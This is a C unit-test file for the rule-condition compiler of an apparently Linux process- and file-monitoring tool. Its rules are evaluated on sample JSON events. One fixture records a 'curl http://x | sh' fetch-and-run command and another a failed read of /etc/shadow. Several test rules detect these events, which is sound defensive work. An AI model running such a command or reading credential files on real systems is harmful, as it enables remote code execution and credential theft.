// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* Unit tests for user/cond_{lex,expand,parse}.c and user/cond_eval.c: the condition
 * language of docs/fields.md compiled against a small macro/list
 * environment and evaluated on views filled from docs/events.md examples.
 * No root needed. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cjson/cJSON.h>

#include "cond.h"
#include "fields.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

/* exec of `sh -c ...` with its ancestry (docs/events.md, cut down) */
static const char exec_json[] =
	"{\"@timestamp\":\"2026-11-26T02:03:08.964070874Z\",\"host\":{\"hostname\":\"vm\"},"
	"\"process\":{\"pid\":17165,\"entity_id\":\"41f48e04-430d-16299\","
	"\"executable\":\"/usr/bin/dash\",\"name\":\"sh\","
	"\"args\":[\"sh\",\"-c\",\"curl http://x | sh\"],\"args_count\":3,"
	"\"command_line\":\"sh -c curl http://x | sh\",\"working_directory\":\"/tmp/tgdemo\","
	"\"parent\":{\"pid\":17160,\"executable\":\"/tmp/tgdoc/tgtrig\",\"name\":\"tgtrig\"},"
	"\"ancestors\":["
	"{\"pid\":17160,\"executable\":\"/tmp/tgdoc/tgtrig\",\"name\":\"tgtrig\"},"
	"{\"pid\":17131,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\"},"
	"{\"pid\":900,\"executable\":\"/usr/sbin/sshd\",\"name\":\"sshd\"},"
	"{\"pid\":1,\"name\":\"systemd\"}],"
	"\"thread\":{\"id\":17165}},"
	"\"user\":{\"id\":1000,\"name\":\"ops\",\"effective\":{\"id\":0}},"
	"\"event\":{\"kind\":\"event\",\"category\":[\"process\"],\"type\":[\"start\"],"
	"\"action\":\"exec\",\"sequence\":9902},"
	"\"twinguard\":{\"cgroup_id\":1,\"exe_memfd\":false,\"exe_deleted\":true,"
	"\"args_truncated\":false}}";

/* failed open of /etc/shadow (docs/events.md) */
static const char open_json[] =
	"{\"process\":{\"pid\":17166,\"executable\":\"/tmp/tgdoc/tgtrig\",\"name\":\"tgtrig\"},"
	"\"user\":{\"id\":65534,\"name\":\"nobody\"},\"group\":{\"id\":0},"
	"\"event\":{\"kind\":\"event\",\"category\":[\"file\"],\"type\":[\"access\"],"
	"\"action\":\"open\",\"outcome\":\"failure\"},"
	"\"twinguard\":{\"syscall\":\"openat\",\"ret\":-13,\"errno\":\"EACCES\",\"cgroup_id\":1,"
	"\"raw_path\":\"/etc/shadow\",\"open_flags\":[\"O_RDONLY\",\"O_CLOEXEC\"]},"
	"\"file\":{\"path\":\"/etc/shadow\",\"name\":\"shadow\",\"directory\":\"/etc\"}}";

/* connect to an MQTT broker */
static const char connect_json[] =
	"{\"process\":{\"pid\":300,\"executable\":\"/opt/twin/bin/sim\",\"name\":\"sim\"},"
	"\"event\":{\"category\":[\"network\"],\"type\":[\"connection\"],\"action\":\"connect\","
	"\"outcome\":\"success\"},"
	"\"twinguard\":{\"syscall\":\"connect\",\"ret\":0,\"fd\":4},"
	"\"network\":{\"type\":\"ipv4\",\"transport\":\"tcp\",\"direction\":\"egress\"},"
	"\"source\":{\"ip\":\"10.0.0.2\",\"port\":42756},"
	"\"destination\":{\"ip\":\"10.0.0.5\",\"port\":1883}}";

/* ---- environment ---------------------------------------------------- */

static const char *const macros[][2] = {
	{ "is_exec", "event.action = exec" },
	{ "is_shell", "process.name in (shell_binaries)" },
	{ "shell_exec", "is_exec and is_shell" },
	{ "nested3", "(shell_exec)" },
	{ "self", "process.pid = 1 or self" },
	{ "ping", "event.action = exec and pong" },
	{ "pong", "(process.pid > 1 or ping)" },
	{ "broken", "process.pid = 1 and\n  file.path < 3" },
	{ "outer", "is_exec and broken" },
	{ "empty_macro", "" },
	{ "trailing", "process.pid = 1 )" },
	{ "file.path", "process.pid = 1" },   /* shadowed: fields win */
	{ "open_or_exec", "event.action in (open, exec)" },
	{ "mqtt_ports", "destination.port in (mqtt_ports)" },   /* a list's name too */
	{ "grow0", "grow1 or grow1" }, { "grow1", "grow2 or grow2" }, { "grow2", "grow3 or grow3" },
	{ "grow3", "grow4 or grow4" }, { "grow4", "grow5 or grow5" }, { "grow5", "grow6 or grow6" },
	{ "grow6", "grow7 or grow7" }, { "grow7", "grow8 or grow8" }, { "grow8", "grow9 or grow9" },
	{ "grow9", "growa or growa" }, { "growa", "growb or growb" }, { "growb", "growc or growc" },
	{ "growc", "growd or growd" }, { "growd", "growe or growe" }, { "growe", "growf or growf" },
	{ "growf", "growg or growg" }, { "growg", "growh or growh" }, { "growh", "growi or growi" },
	{ "growi", "growj or growj" }, { "growj", "growk or growk" }, { "growk", "process.pid = 1" },
};

static const char *const shell_binaries[] = { "sh", "bash", "dash", "zsh" };
static const char *const all_shells[] = { "shell_binaries", "busybox" };
static const char *const mqtt_ports[] = { "1883", "8883" };
static const char *const bad_ports[] = { "1883", "mqtt" };
static const char *const model_dirs[] = { "/var/lib/twin/models/", "/opt/twin/models" };
static const char *const loop_a[] = { "x", "loop_b" };
static const char *const loop_b[] = { "loop_a" };
static const char *const actions_ro[] = { "open", "rename" };

static const struct {
	const char *name;
	const char *const *items;
	size_t n;
} lists[] = {
	{ "shell_binaries", shell_binaries, ARRAY_SIZE(shell_binaries) },
	{ "all_shells", all_shells, ARRAY_SIZE(all_shells) },
	{ "mqtt_ports", mqtt_ports, ARRAY_SIZE(mqtt_ports) },
	{ "bad_ports", bad_ports, ARRAY_SIZE(bad_ports) },
	{ "model_dirs", model_dirs, ARRAY_SIZE(model_dirs) },
	{ "loop_a", loop_a, ARRAY_SIZE(loop_a) },
	{ "loop_b", loop_b, ARRAY_SIZE(loop_b) },
	{ "file_actions", actions_ro, ARRAY_SIZE(actions_ro) },
	{ "no_items", NULL, 0 },
};

static char g_used[1024];   /* names told to env.used, space separated */

static const char *env_macro(void *ctx, const char *name)
{
	cr_assert_eq(ctx, (void *)g_used);
	for (size_t i = 0; i < ARRAY_SIZE(macros); i++)
		if (!strcmp(macros[i][0], name))
			return macros[i][1];
	return NULL;
}

static const char *const *env_list(void *ctx, const char *name, size_t *n)
{
	static const char *const none[1];

	cr_assert_eq(ctx, (void *)g_used);
	for (size_t i = 0; i < ARRAY_SIZE(lists); i++) {
		if (!strcmp(lists[i].name, name)) {
			*n = lists[i].n;
			return lists[i].items ? lists[i].items : none;
		}
	}
	return NULL;
}

static void env_used(void *ctx, const char *name)
{
	size_t len = strlen(g_used);

	cr_assert_eq(ctx, (void *)g_used);
	snprintf(g_used + len, sizeof(g_used) - len, "%s ", name);
}

static const struct tg_cond_env env = { env_macro, env_list, env_used, g_used };

static struct tg_view *g_view;
static cJSON *g_json;

static void setup(void)
{
	g_view = malloc(sizeof(*g_view));
	cr_assert_not_null(g_view);
	view_init(g_view);
	g_used[0] = 0;
}

static void teardown(void)
{
	free(g_view);
	cJSON_Delete(g_json);
	g_json = NULL;
}

TestSuite(cond, .init = setup, .fini = teardown);

static void fill(const char *json)
{
	cJSON_Delete(g_json);
	g_json = cJSON_Parse(json);
	cr_assert_not_null(g_json);
	cr_assert_eq(view_fill(g_view, g_json, NULL), 0);
}

static struct tg_cond *compile_ok(const char *text)
{
	struct tg_cond_error err;
	struct tg_cond *c = cond_compile(text, &env, &err);

	cr_assert_not_null(c, "'%s' did not compile: %s (offset %zu, macro '%s')", text, err.msg,
			   err.offset, err.macro);
	return c;
}

static bool matches(const char *text, const char *json)
{
	struct tg_cond *c = compile_ok(text);
	bool r;

	fill(json);
	r = cond_eval(c, g_view);
	cond_free(c);
	return r;
}

#define YES(text, json) cr_assert(matches(text, json), "'%s' should match", text)
#define NO(text, json) cr_assert_not(matches(text, json), "'%s' should not match", text)

static void expect_error(const char *text, size_t off, const char *msg, const char *macro)
{
	struct tg_cond_error err;
	struct tg_cond *c = cond_compile(text, &env, &err);

	cr_assert_null(c, "'%s' compiled but should not", text);
	cr_assert(strstr(err.msg, msg), "'%s': message '%s' lacks '%s'", text, err.msg, msg);
	cr_assert(strstr(err.msg, "; expected "), "'%s': message '%s' lacks '; expected'", text,
		  err.msg);
	cr_assert_eq(err.offset, off, "'%s': offset %zu, wanted %zu (%s)", text, err.offset, off,
		     err.msg);
	cr_assert_str_eq(err.macro, macro ? macro : "", "'%s': error macro", text);
}

/* ---- operators ------------------------------------------------------ */

Test(cond, equality_single_valued)
{
	YES("process.executable = /usr/bin/dash", exec_json);
	NO("process.executable = /usr/bin/das", exec_json);
	YES("process.pid = 17165", exec_json);
	YES("process.pid = 17165.0", exec_json);
	YES("process.pid == 17165", exec_json);
	NO("process.pid = 17166", exec_json);
	YES("process.pid != 17166", exec_json);
	NO("process.pid != 17165", exec_json);
	YES("twinguard.exe_deleted = true", exec_json);
	YES("twinguard.exe_memfd = false", exec_json);
	YES("twinguard.exe_memfd != true", exec_json);
	YES("twinguard.ret = -13", open_json);
	YES("file.name = \"shadow\"", open_json);
	YES("file.name = 'shadow'", open_json);
}

Test(cond, numeric_comparisons)
{
	YES("process.pid > 17164", exec_json);
	NO("process.pid > 17165", exec_json);
	YES("process.pid >= 17165", exec_json);
	YES("process.pid < 17166", exec_json);
	NO("process.pid < 17165", exec_json);
	YES("process.pid <= 17165", exec_json);
	YES("twinguard.ret < 0", open_json);
	YES("twinguard.ret >= -13", open_json);
	YES("user.id>=1000", exec_json);
	YES("destination.port = 1.883e3", connect_json);
	/* any ancestor */
	YES("process.ancestors.pid < 2", exec_json);
	NO("process.ancestors.pid > 20000", exec_json);
}

Test(cond, string_operators)
{
	YES("process.command_line contains \"curl http\"", exec_json);
	NO("process.command_line contains wget", exec_json);
	YES("process.command_line contains ''", exec_json);
	YES("process.command_line icontains CURL", exec_json);
	YES("process.command_line icontains \"HTTP://X\"", exec_json);
	NO("process.command_line contains CURL", exec_json);
	YES("process.executable startswith /usr/", exec_json);
	NO("process.executable startswith /usr/bin/dash/", exec_json);
	YES("process.executable endswith /dash", exec_json);
	NO("process.executable endswith /bash", exec_json);
	YES("file.path glob /etc/*", open_json);
	YES("file.path glob '/*/sha?ow'", open_json);
	YES("file.path glob '/e[st]c/*'", open_json);
	NO("file.path glob '/etc/*.conf'", open_json);
	/* FNM_PATHNAME off: '*' crosses '/' */
	YES("file.path glob '*shadow'", open_json);
	/* escapes: a literal '*' needs "\*" */
	NO("file.path glob \"/etc/\\*\"", open_json);
}

Test(cond, in_and_intersects)
{
	YES("process.name in (sh, bash)", exec_json);
	NO("process.name in (bash, zsh)", exec_json);
	YES("destination.port in (1883, 8883)", connect_json);
	NO("destination.port in (80, 443)", connect_json);
	YES("twinguard.exe_deleted in (true)", exec_json);
	YES("process.args in (-c)", exec_json);
	YES("process.args intersects (-c, -e)", exec_json);
	NO("process.args intersects (-e)", exec_json);
	YES("event.category in (file, network)", open_json);
	NO("process.name in ()", exec_json);
}

Test(cond, pmatch_component_wise)
{
	YES("file.path pmatch (/etc)", open_json);
	YES("file.path pmatch (/etc/shadow)", open_json);
	NO("file.path pmatch (/et)", open_json);
	NO("file.path pmatch (/etc/sha)", open_json);
	YES("file.path pmatch (/)", open_json);
	YES("file.path pmatch (/usr, /etc/)", open_json);
	NO("file.directory pmatch (/etc/)", open_json);           /* only below /etc */
	YES("file.path pmatch (\"/etc/\")", open_json);
	YES("file.directory pmatch (/etc/, /etc)", open_json);   /* plain /etc wins */
	NO("file.path pmatch (/etc/shadow/)", open_json);
	YES("process.ancestors.executable pmatch (/usr/sbin)", exec_json);
	YES("process.executable pmatch (model_dirs, /usr/bin)", exec_json);
}

Test(cond, exists_and_absent)
{
	YES("file.path exists", open_json);
	NO("file.path exists", exec_json);
	YES("process.ancestors.pid exists", exec_json);
	NO("process.ancestors.pid exists", open_json);
	/* every comparison on an absent field is false... */
	NO("file.path = /etc/shadow", exec_json);
	NO("file.path contains e", exec_json);
	NO("file.path in (a, b)", exec_json);
	NO("file.inode > -1", exec_json);
	NO("file.inode < 1", exec_json);
	/* ...but "!=" is "not =": true */
	YES("file.path != /etc/shadow", exec_json);
	YES("not file.path = /etc/shadow", exec_json);
	YES("file.path exists and file.path != /etc/passwd", open_json);
	NO("file.path exists and file.path != /etc/passwd", exec_json);
}

Test(cond, multi_valued_any_value)
{
	YES("process.args = sh", exec_json);
	YES("process.args = -c", exec_json);
	NO("process.args = -x", exec_json);
	YES("process.args startswith curl", exec_json);
	YES("process.ancestors.name = sshd", exec_json);
	YES("process.ancestors.executable endswith sshd", exec_json);
	/* "!=" is not "some value differs" */
	NO("process.args != -c", exec_json);
	YES("process.args != -x", exec_json);
	YES("twinguard.open_flags = O_CLOEXEC", open_json);
	YES("not twinguard.open_flags in (O_WRONLY, O_RDWR)", open_json);
}

Test(cond, indexed_fields)
{
	YES("process.ancestors[0].executable = /tmp/tgdoc/tgtrig", exec_json);
	YES("process.ancestors[1].executable = /usr/bin/bash", exec_json);
	NO("process.ancestors[1].executable = /usr/sbin/sshd", exec_json);
	YES("process.ancestors[2].executable = /usr/sbin/sshd", exec_json);
	YES("process.ancestors.executable[2] = /usr/sbin/sshd", exec_json);
	YES("process.ancestors[3].pid = 1", exec_json);
	YES("process.ancestors[3].name = systemd", exec_json);
	/* pid 1 has no executable: three values only */
	NO("process.ancestors[3].executable exists", exec_json);
	YES("process.ancestors[2].executable exists", exec_json);
	YES("process.args[0] = sh", exec_json);
	NO("process.args[0] = -c", exec_json);
	YES("process.args[1] = -c", exec_json);
	NO("process.args[7] = sh", exec_json);
	YES("process.args[7] != sh", exec_json);
	YES("process.ancestors[1].pid < 17160", exec_json);
}

/* ---- structure ------------------------------------------------------ */

Test(cond, precedence_and_parentheses)
{
	/* not > and > or */
	YES("process.pid = 1 and process.pid = 2 or process.name = sh", exec_json);
	YES("process.name = sh or process.pid = 1 and process.pid = 2", exec_json);
	NO("(process.name = sh or process.pid = 1) and process.pid = 2", exec_json);
	NO("not process.name = sh and process.pid = 17165", exec_json);
	YES("not process.name = bash and process.pid = 17165", exec_json);
	NO("not (process.name = bash or process.pid = 17165)", exec_json);
	YES("not not process.name = sh", exec_json);
	YES("((((process.name = sh))))", exec_json);
	YES("(process.name = x or (process.pid = 17165 and (user.id = 1000)))", exec_json);
	YES("process.name=sh and(process.pid=17165)or(user.id=1)", exec_json);
	YES("  process.name\t=\n sh  ", exec_json);
}

Test(cond, quoting_and_escapes)
{
	YES("process.command_line = \"sh -c curl http://x | sh\"", exec_json);
	YES("process.command_line = 'sh -c curl http://x | sh'", exec_json);
	YES("process.command_line contains \"x | sh\"", exec_json);
	YES("file.path in (\"/etc/shadow\", 'a b', c)", open_json);
	fill("{\"process\":{\"command_line\":\"say \\\"hi\\\" C:\\\\x a\\\\*b\"}}");
	/* the field holds: say "hi" C:\x a\*b */
	{
		struct tg_cond *c;

		c = compile_ok("process.command_line = \"say \\\"hi\\\" C:\\\\x a\\\\*b\"");
		cr_assert(cond_eval(c, g_view));
		cond_free(c);
		/* single quotes are raw */
		c = compile_ok("process.command_line contains 'C:\\x a\\*b'");
		cr_assert(cond_eval(c, g_view));
		cond_free(c);
		/* other backslashes stay as written */
		c = compile_ok("process.command_line endswith \"a\\*b\"");
		cr_assert(cond_eval(c, g_view));
		cond_free(c);
		c = compile_ok("process.command_line contains '\"hi\"'");
		cr_assert(cond_eval(c, g_view));
		cond_free(c);
	}
	/* bare words run to space, paren or comma */
	YES("twinguard.raw_path = /etc/shadow", open_json);
	fill("{\"twinguard\":{\"module_params\":\"hide=1\"}}");
	{
		struct tg_cond *c = compile_ok("twinguard.module_params = hide=1");

		cr_assert(cond_eval(c, g_view));
		cond_free(c);
	}
	/* a quoted keyword is a value */
	fill("{\"process\":{\"name\":\"and\"}}");
	{
		struct tg_cond *c = compile_ok("process.name = \"and\" or process.name = 'not'");

		cr_assert(cond_eval(c, g_view));
		cond_free(c);
	}
}

Test(cond, numbers_quoted_and_signed)
{
	YES("destination.port = \"1883\"", connect_json);
	YES("twinguard.ret > -14", open_json);
	YES("twinguard.ret = -1.3e1", open_json);
	YES("destination.port in (mqtt_ports)", connect_json);
	YES("destination.port in (22, mqtt_ports)", connect_json);
}

/* ---- macros and lists ----------------------------------------------- */

Test(cond, macros_nested)
{
	YES("is_exec", exec_json);
	NO("is_exec", open_json);
	YES("shell_exec", exec_json);
	YES("nested3 and process.pid = 17165", exec_json);
	YES("not nested3", open_json);
	YES("process.name = x or shell_exec", exec_json);
	/* a macro is a unit: "a or b" inside does not bind to "and" outside */
	NO("open_or_exec and event.action = connect", exec_json);
	YES("file.path exists", open_json);   /* a field named like a macro stays the field */
	cr_assert(strstr(g_used, "shell_binaries"), "used: %s", g_used);
}

Test(cond, used_callback)
{
	struct tg_cond *c = compile_ok("shell_exec and process.name in (all_shells, x)");

	cr_assert_str_eq(g_used, "shell_exec is_exec is_shell shell_binaries all_shells "
				 "shell_binaries ");
	cond_free(c);
}

Test(cond, macro_errors)
{
	expect_error("self", 19, "macro 'self' uses itself (self -> self)", "self");
	expect_error("process.pid = 2 or ping", 20, "macro 'ping' uses itself (ping -> pong -> ping)",
		     "pong");
	/* the error is inside macro "broken", at offset 32 of its text */
	expect_error("outer", 32, "operator '<' compares numbers but file.path is a string field",
		     "broken");
	expect_error("is_exec and empty_macro", 0, "unexpected end of macro", "empty_macro");
	expect_error("trailing", 16, "unexpected ')'", "trailing");
	/* exponential expansion: 2^20 predicates, cut at 2^18 */
	expect_error("grow0", 0, "condition too large", "growk");
}

Test(cond, list_names_inline_and_mixed)
{
	YES("process.name in shell_binaries", exec_json);
	YES("process.name in (shell_binaries)", exec_json);
	YES("process.name in (python3, shell_binaries, \"my tool\")", exec_json);
	YES("process.name in (busybox, all_shells)", exec_json);   /* nested list names */
	/* quoted: literal, not the list */
	NO("process.name in (\"shell_binaries\")", exec_json);
	YES("process.args intersects (shell_binaries)", exec_json);
	NO("process.name in no_items", exec_json);
	NO("process.name in (no_items)", exec_json);
	YES("event.action in file_actions", open_json);
	/* macros and lists are separate name spaces */
	YES("mqtt_ports", connect_json);
}

Test(cond, list_errors)
{
	expect_error("process.name in nolist", 16, "unknown list 'nolist'", NULL);
	expect_error("process.name in \"sh\"", 16, "expected a list name or '(' value, ... ')'",
		     NULL);
	expect_error("destination.port in (bad_ports)", 21,
		     "list 'bad_ports' item 'mqtt' is not a number", NULL);
	expect_error("destination.port in (1883, mqtt)", 27, "'mqtt' is not a number", NULL);
	expect_error("process.name in (loop_a)", 17, "list 'loop_a' uses itself "
		     "(loop_a -> loop_b -> loop_a)", NULL);
	expect_error("process.name in (a b)", 19, "unexpected 'b'; expected ',' or ')'", NULL);
	expect_error("process.name in (a,)", 19, "unexpected ')'; expected a value", NULL);
	expect_error("process.name in (a", 18, "unexpected end of condition", NULL);
	expect_error("shell_binaries", 0, "'shell_binaries' is a list, not a condition", NULL);
	expect_error("process.name = (sh, bash)", 15, "operator '=' takes one value", NULL);
}

/* ---- errors --------------------------------------------------------- */

Test(cond, type_errors)
{
	expect_error("process.pid = abc", 14, "'abc' is not a number; expected a number "
		     "(process.pid is a number field)", NULL);
	expect_error("process.pid > 0x10", 14, "is not a number", NULL);
	expect_error("process.pid > nan", 14, "is not a number", NULL);
	expect_error("file.path < 3", 10, "operator '<' compares numbers but file.path is a "
		     "string field; expected a number field", NULL);
	expect_error("process.pid contains 1", 12, "operator 'contains' needs a string field "
		     "but process.pid is a number field", NULL);
	expect_error("twinguard.exe_memfd glob x", 20, "needs a string field", NULL);
	expect_error("twinguard.exe_memfd = yes", 22, "'yes' is not a boolean; expected true or "
		     "false", NULL);
	expect_error("twinguard.exe_memfd >= 1", 20, "compares numbers", NULL);
	expect_error("process.pid pmatch (/a)", 12, "needs a string field", NULL);
}

Test(cond, syntax_errors)
{
	expect_error("proces.pid = 1", 0, "unknown field 'proces.pid' (did you mean "
		     "'process.pid'?); expected a field from docs/fields.md or a macro name", NULL);
	expect_error("process.pid = 1 and destination.prot = 2", 20,
		     "unknown field 'destination.prot' (did you mean 'destination.port'?)", NULL);
	expect_error("process.ancestors[1].exectuable = x", 0, "did you mean "
		     "'process.ancestors.executable'", NULL);
	expect_error("zzzzzz", 0, "unknown field 'zzzzzz'; expected a field", NULL);
	expect_error("process.pid", 11, "missing operator after field 'process.pid'", NULL);
	expect_error("process.pid 1", 12, "missing operator", NULL);
	expect_error("process.pid =", 13, "unexpected end of condition; expected a value", NULL);
	expect_error("process.name = and", 15, "missing value before 'and'", NULL);
	expect_error("process.pid = 1 process.pid = 2", 16, "unexpected 'process.pid'; expected "
		     "'and', 'or' or the end of the condition", NULL);
	expect_error("process.pid = 1 and", 19, "unexpected end of condition; expected a field",
		     NULL);
	expect_error("and process.pid = 1", 0, "unexpected 'and'", NULL);
	expect_error("(process.pid = 1", 16, "expected 'and', 'or' or ')'", NULL);
	expect_error("process.pid = 1)", 15, "unexpected ')'", NULL);
	expect_error("process.name = \"sh", 15, "unterminated string; expected a closing \"",
		     NULL);
	expect_error("process.name = 'sh", 15, "unterminated string", NULL);
	expect_error("process.name ! sh", 13, "unexpected '!'", NULL);
	expect_error("", 0, "unexpected end of condition", NULL);
	expect_error("()", 1, "unexpected ')'", NULL);
	expect_error("process.pid[1] = 1", 0, "field 'process.pid' holds one value", NULL);
	expect_error("process.args[512] = 1", 13, "index out of range", NULL);
	expect_error("process.args[x] = 1", 0, "unknown field", NULL);
}

Test(cond, no_env_and_null_text)
{
	struct tg_cond_error err;
	struct tg_cond *c = cond_compile("process.pid = 1 or process.name in (a)", NULL, &err);

	cr_assert_not_null(c);
	cond_free(c);
	cr_assert_null(cond_compile("is_exec", NULL, &err));
	cr_assert(strstr(err.msg, "unknown field 'is_exec'"));
	cr_assert_null(cond_compile("process.name in shells", NULL, NULL));
	cr_assert_null(cond_compile(NULL, &env, &err));
	cr_assert(strstr(err.msg, "; expected"));
	cond_free(NULL);
	cr_assert_not(cond_eval(NULL, g_view));
}

/* ---- depth ---------------------------------------------------------- */

static char *repeat(const char *head, size_t n, const char *mid, const char *tail, size_t m)
{
	size_t lh = strlen(head), lm = strlen(mid), lt = strlen(tail);
	char *s = malloc(lh * n + lm + lt * m + 1), *p = s;

	cr_assert_not_null(s);
	for (size_t i = 0; i < n; i++, p += lh)
		memcpy(p, head, lh);
	memcpy(p, mid, lm);
	p += lm;
	for (size_t i = 0; i < m; i++, p += lt)
		memcpy(p, tail, lt);
	*p = 0;
	return s;
}

Test(cond, deep_nesting_is_an_error)
{
	char *s = repeat("(", 10000, "", "", 0);

	expect_error(s, TG_COND_MAX_DEPTH, "nested deeper than 64 levels", NULL);
	free(s);
	s = repeat("(", 10000, "process.pid = 1", ")", 10000);
	expect_error(s, TG_COND_MAX_DEPTH, "nested deeper than 64 levels", NULL);
	free(s);
	s = repeat("not ", 10000, "process.pid = 1", "", 0);
	expect_error(s, 4 * TG_COND_MAX_DEPTH, "nested deeper", NULL);
	free(s);
	/* exactly at the limit: fine */
	s = repeat("(", TG_COND_MAX_DEPTH, "process.pid = 17165", ")", TG_COND_MAX_DEPTH);
	YES(s, exec_json);
	free(s);
	s = repeat("not ", TG_COND_MAX_DEPTH, "process.pid = 17165", "", 0);
	YES(s, exec_json);
	free(s);
	/* long flat chains are loops, not recursion */
	s = repeat("process.pid = 1 or ", 20000, "process.pid = 17165", "", 0);
	YES(s, exec_json);
	free(s);
}

/* ---- introspection -------------------------------------------------- */

struct walked {
	char buf[2048];
};

static void on_field(void *ctx, int field, const char *op, const char *value)
{
	struct walked *w = ctx;
	size_t len = strlen(w->buf);

	snprintf(w->buf + len, sizeof(w->buf) - len, "%s %s %s;", fields_get(field)->name, op,
		 value ? value : "(null)");
}

Test(cond, walk_reports_every_comparison)
{
	struct walked w = { "" };
	struct tg_cond *c = compile_ok(
		"file.path pmatch (model_dirs, /etc/) and not process.name in (shell_binaries) "
		"or destination.port != 1883 and file.path exists or is_exec and "
		"process.command_line icontains CuRl and process.args[1] = '-c'");

	cond_walk(c, on_field, &w);
	cr_assert_str_eq(w.buf,
		"file.path pmatch /var/lib/twin/models/;file.path pmatch /opt/twin/models;"
		"file.path pmatch /etc/;"
		"process.name in sh;process.name in bash;process.name in dash;process.name in zsh;"
		"destination.port != 1883;file.path exists (null);"
		"event.action = exec;process.command_line icontains CuRl;process.args = -c;");
	cond_walk(c, NULL, NULL);
	cond_walk(NULL, on_field, &w);
	cond_free(c);
}

static void expect_actions(const char *text, const char *want)
{
	struct tg_cond *c = compile_ok(text);
	size_t n = 99;
	const char *const *a = cond_actions(c, &n);
	char got[256] = "";

	if (!a) {
		cr_assert_eq(n, 0);
		snprintf(got, sizeof(got), "any");
	}
	for (size_t i = 0; a && i < n; i++)
		snprintf(got + strlen(got), sizeof(got) - strlen(got), "%s%s", i ? "," : "", a[i]);
	cr_assert_str_eq(got, want, "actions of '%s'", text);
	cond_free(c);
}

Test(cond, actions_for_indexing)
{
	expect_actions("process.name = sh", "any");
	expect_actions("event.action = exec", "exec");
	expect_actions("event.action = exec and process.name in (sh)", "exec");
	expect_actions("shell_exec", "exec");                     /* inside macros */
	expect_actions("event.action in (open, rename, open)", "open,rename");
	expect_actions("event.action in file_actions and file.path exists", "open,rename");
	expect_actions("open_or_exec and event.action in (exec, connect)", "exec");
	expect_actions("event.action = open or event.action = exec", "open,exec");
	expect_actions("(is_exec and process.pid = 1) or (event.action = open and "
		       "file.path exists)", "exec,open");
	expect_actions("event.action = open or process.pid = 1", "any");
	expect_actions("not event.action = open", "any");
	expect_actions("event.action != open", "any");
	expect_actions("event.action startswith op", "any");
	expect_actions("event.action = open and event.action = exec", "");
	expect_actions("event.action in ()", "");
}

static bool never(const char *text)
{
	struct tg_cond *c = compile_ok(text);
	bool r = cond_never_matches(c);

	cond_free(c);
	return r;
}

Test(cond, never_matches)
{
	cr_assert(never("event.action = open and event.action = exec"));
	cr_assert(never("is_exec and event.action = open"));
	cr_assert(never("event.action in (open, rename) and event.action in (exec, connect)"));
	cr_assert_not(never("event.action in (open, rename) and event.action in (exec, open)"));
	cr_assert(never("process.name = sh and process.pid = 1 and not process.name = sh"));
	cr_assert(never("process.name in (a, b) and not process.name in (a, b)"));
	cr_assert(never("(is_exec or process.pid = 1) and not (is_exec or process.pid = 1)"));
	cr_assert(never("process.name = sh and process.name != sh"));
	cr_assert(never("process.args = sh and process.args != sh"));
	cr_assert(never("process.pid < 10 and process.pid > 20"));
	cr_assert(never("process.pid < 10 and process.pid >= 10"));
	cr_assert(never("process.pid = 5 and process.pid > 5"));
	cr_assert_not(never("process.pid <= 10 and process.pid >= 10"));
	cr_assert(never("process.name in ()"));
	cr_assert(never("process.name in no_items or file.path pmatch ()"));
	cr_assert(never("process.pid = 1 and (process.name in () or process.pid = 2)"));
	cr_assert(never("process.args[0] = sh and process.args[0] = bash"));
	/* a multi-valued field can hold both */
	cr_assert_not(never("process.args = sh and process.args = bash"));
	cr_assert_not(never("process.ancestors.pid < 10 and process.ancestors.pid > 20"));
	cr_assert_not(never("process.args[0] = sh and process.args[1] = bash"));
	cr_assert_not(never("process.name = sh or process.name = bash"));
	cr_assert_not(never("process.name = sh and not process.name = bash"));
	cr_assert_not(never("process.name in ()  or process.pid = 1"));
	cr_assert_not(never("not process.name in ()"));
	cr_assert_not(cond_never_matches(NULL));
}

/* Evaluating many events with one compiled condition does not allocate
 * or depend on the previous event. */
Test(cond, eval_reuses_compiled_condition)
{
	struct tg_cond *c = compile_ok("(is_exec and process.name in shell_binaries) or "
				       "(event.action = open and file.path pmatch (/etc))");
	const char *events[] = { exec_json, open_json, connect_json, exec_json };
	const bool want[] = { true, true, false, true };

	for (size_t i = 0; i < ARRAY_SIZE(events); i++) {
		fill(events[i]);
		cr_assert_eq(cond_eval(c, g_view), want[i], "event %zu", i);
	}
	cond_free(c);
}
